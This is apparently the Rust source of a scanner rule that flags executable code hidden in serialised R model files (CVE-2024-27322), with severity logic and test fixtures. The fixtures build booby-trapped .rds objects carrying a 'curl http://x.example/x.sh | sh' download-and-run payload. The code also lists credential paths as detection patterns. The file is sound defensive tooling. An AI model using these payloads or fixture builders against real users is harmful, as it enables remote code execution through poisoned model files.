use stance_core::fact::{ArtifactFormat, Artifact, EmbeddedKind};
use stance_core::{Confidence, Severity};
use stance_inspect::rdata;
use stance_inspect::rdata::assemble::Object;
use stance_inspect::rdata::context::Context;
use stance_inspect::rdata::functions::{Capability, capability};

use stance_intent::commands::hostile;
use crate::{Cx, Rule};

rule! {
    /// # R object that holds code which acts
    ///
    /// ## What it finds
    /// Calls inside of a serialised R object (`.rds`, `.rda`, `.RData`) that start programs, open connections,
    /// load native code, evaluate text, write files or leave something behind, by when they run: a promise or
    /// an active binding, which run when a variable is looked at, are critical or high; so are functions that R
    /// calls at its start. An expression, as a formula holds it, is high. A function that somebody has to call
    /// is high when it starts a program with a command that is written there, low otherwise. The calls, formulas,
    /// functions and promises that models of R are made of are not reported.
    ///
    /// ## Why it matters
    /// `readRDS` and `load` give back whatever was stored, code included. Until R 4.4 a promise in the file was
    /// bound like any value and evaluated at the first use of it, which is printing the object
    /// (CVE-2024-27322); active bindings and the expressions that `predict` evaluates still run.
    ///
    /// ## Example
    /// ```text
    /// promise: system('curl http://x.example/x.sh | sh')
    /// ```
    ///
    /// ## Fix
    /// Do not read the file. Update to R 4.4.0 or later, and take models from others in a format that holds data
    /// only: coefficients as a table, trees as PMML or JSON.
    ///
    /// ## References
    /// - CVE-2024-27322: R evaluates promises of a file
    /// - [CERT: VU#238194](https://kb.cert.org/vuls/id/238194)
    /// - [MITRE ATLAS: Unsafe AI Artifacts](https://atlas.mitre.org/techniques/AML.T0011.000)
    RCode {
        id: "model/r-code",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "owasp-agentic-2026:ASI05",
            "mitre-atlas:AML.T0011.000",
            "mitre-atlas:AML.T0018.002",
            "nist-ai-rmf-1.0:MEASURE 2.7",
            "iso-42001-2023:A.6.2.4",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::made!("model.rds", promise),
            crate::made!("model.rds", formula),
            crate::made!("model.rds", active),
            crate::made!("model.RData", start_up),
            crate::made!("model.rds", function_with_command),
        ],
        good: [
            crate::made!("model.rds", honest_call),
            crate::made!("model.rds", honest_promise),
            crate::made!("model.rds", evaluated),
            crate::made!("model.rds", words),
        ],
    }
}

impl Rule for RCode {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(artifact.format == ArtifactFormat::RData);
        let all = artifact.embedded.iter();
        for code in all.filter(|embedded| embedded.kind == EmbeddedKind::RCode) {
            let Some((context, printed)) = Context::of_detail(&code.detail) else {
                continue;
            };
            let Some(severity) = judge(&code.name, context, printed) else {
                continue;
            };
            let message = match context {
                _ if code.name == rdata::PROMISE => "The object is a promise that runs when it is looked at".to_owned(),
                Context::Promise => format!("Looking at the object calls `{}`, through a promise", code.name),
                Context::Active => format!("Looking at a variable calls `{}`, through an active binding", code.name),
                Context::StartUp => format!("R calls `{}` when it loads the workspace", code.name),
                Context::Expression => format!("An expression in the object calls `{}`", code.name),
                Context::Function | Context::Evaluated => format!("A function in the object calls `{}`", code.name),
            };
            let draft = cx
                .report(&code.evidence, message)
                .severity(severity)
                .note(format!("it says: {}", stance_core::evidence::shorten(printed)));
            if code.name == rdata::PROMISE {
                draft.exploits("r-promise");
            } else if severity < Severity::High {
                draft.confidence(Confidence::Medium);
            }
        }
    }
}

/// Whether the first two arguments, as R prints them, are texts without a name.
fn takes_two_texts(arguments: &str) -> bool {
    arguments
        .strip_prefix('\'')
        .and_then(|rest| rest.split_once('\''))
        .is_some_and(|(first, rest)| !first.contains('\\') && rest.starts_with(", '"))
}

/// How bad a call is where it stands; nothing where honest objects have it.
fn judge(name: &str, context: Context, printed: &str) -> Option<Severity> {
    let itself = context.runs_by_itself();
    let acts = hostile(printed).is_some();
    // What is called with a text, and what is put together to hide what it is.
    let constant = printed.contains('\'');
    let hidden = printed.contains("rawToChar(") || printed.contains("intToUtf8(") || printed.contains("base64");
    let Some(capability) = capability(name) else {
        return match name {
            rdata::PROMISE | ".First" | ".Last" | ".First.sys" | ".Last.sys" => Some(Severity::High),
            _ if itself || acts => Some(Severity::High),
            _ => None,
        };
    };
    match (capability, context) {
        (Capability::Process | Capability::Native, Context::Function) => {
            let arguments = printed.split_once('(').map_or("", |(_, arguments)| arguments);
            // The second argument of R's own `system` is no text: this one is another function of the name.
            let other = name == "system" && takes_two_texts(arguments);
            let written = !other && (arguments.starts_with('\'') || arguments.starts_with("command = '"));
            Some(if written || acts {
                Severity::High
            } else {
                Severity::Low
            })
        }
        (Capability::Process | Capability::Native, _) => {
            Some(if itself { Severity::Critical } else { Severity::High })
        }
        (Capability::Code, _) => {
            let names = constant && names_a_capable_call(printed);
            let loads = !matches!(
                name.rsplit(':').next().unwrap_or(name),
                "parse" | "str2lang" | "str2expression" | "parse_expr" | "parse_exprs" | "eval_string"
            );
            if acts || hidden || names {
                Some(if itself { Severity::Critical } else { Severity::High })
            } else if itself && loads && constant {
                Some(Severity::High)
            } else {
                None
            }
        }
        (Capability::Network, Context::Function) => acts.then_some(Severity::High),
        (Capability::Network, Context::Expression) if name == "url" => acts.then_some(Severity::High),
        (Capability::Network, _) => Some(Severity::High),
        (Capability::Load, _) => {
            let far = printed.contains("://") || printed.contains("'/") || hidden;
            (itself && far).then_some(Severity::High)
        }
        (Capability::Write | Capability::Hook, Context::Expression) => {
            (acts || constant && writes_for_certain(name)).then_some(Severity::High)
        }
        (Capability::Write | Capability::Hook, _) if itself => {
            (acts || constant || capability == Capability::Hook).then_some(Severity::High)
        }
        (Capability::Read, _) => {
            let secret = ["/etc/", ".ssh", ".aws", ".netrc", "id_rsa", ".Renviron", "/proc/", "TOKEN", "SECRET", "KEY"];
            (itself && secret.iter().any(|part| printed.contains(part)) || acts).then_some(Severity::High)
        }
        (Capability::Attach, _) if itself && printed.contains("lib.loc") => Some(Severity::High),
        _ => acts.then_some(Severity::High),
    }
}

/// Functions that change files and have no other meaning in a formula.
fn writes_for_certain(name: &str) -> bool {
    matches!(
        name.rsplit(':').next().unwrap_or(name),
        "unlink" | "file.remove" | "file.rename" | "file.copy" | "file.create" | "file.append" | "writeLines"
            | "writeBin" | "Sys.chmod" | "file.symlink" | "reg.finalizer" | "addTaskCallback" | "assignInNamespace"
    )
}

/// Whether a text constant holds the call of a function that acts.
fn names_a_capable_call(printed: &str) -> bool {
    printed.match_indices('(').any(|(at, _)| {
        let before = printed.get(..at).unwrap_or_default();
        let start = before
            .rfind(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '_')))
            .map_or(0, |found| found.saturating_add(1));
        let inner = before.get(start..).unwrap_or_default();
        let acts = matches!(
            capability(inner),
            Some(
                Capability::Process
                    | Capability::Native
                    | Capability::Network
                    | Capability::Write
                    | Capability::Hook
                    | Capability::Load
            )
        );
        // The outermost name is the function that evaluates the text.
        start > 0 && (acts || inner == "eval")
    })
}

fn text(value: &str) -> Object {
    Object::new().text(value)
}

fn system() -> Object {
    Object::new().call("system", &[text("curl http://x.example/x.sh | sh")])
}

fn promise() -> Vec<u8> {
    Object::new().environment("coefficients", &Object::new().promise(&system())).rds()
}

fn formula() -> Vec<u8> {
    let right = Object::new().call("I", &[system()]);
    Object::new().list(&[Object::new().call("~", &[Object::new().symbol("y"), right])]).rds()
}

fn active() -> Vec<u8> {
    Object::new().active("model", &Object::new().function(&system())).rds()
}

fn start_up() -> Vec<u8> {
    let body = Object::new().call("cat", &[text("hello")]);
    Object::new().named(".First", &Object::new().function(&body)).workspace()
}

fn function_with_command() -> Vec<u8> {
    Object::new().list(&[Object::new().function(&system())]).rds()
}

fn honest_call() -> Vec<u8> {
    let data = Object::new().call("read.csv", &[text("data.csv")]);
    let formula = Object::new().call("~", &[Object::new().symbol("system"), Object::new().symbol("url")]);
    Object::new().call("lm", &[formula, data]).rds()
}

fn honest_promise() -> Vec<u8> {
    let default = Object::new().call("glm.control", &[]);
    Object::new().environment("control", &Object::new().promise(&default)).rds()
}

fn evaluated() -> Vec<u8> {
    Object::new().environment("x", &Object::new().evaluated(&text("a"), &system())).rds()
}

fn words() -> Vec<u8> {
    Object::new().list(&[text("call system('id') to see who you are"), text("source(\"x.R\")")]).rds()
}
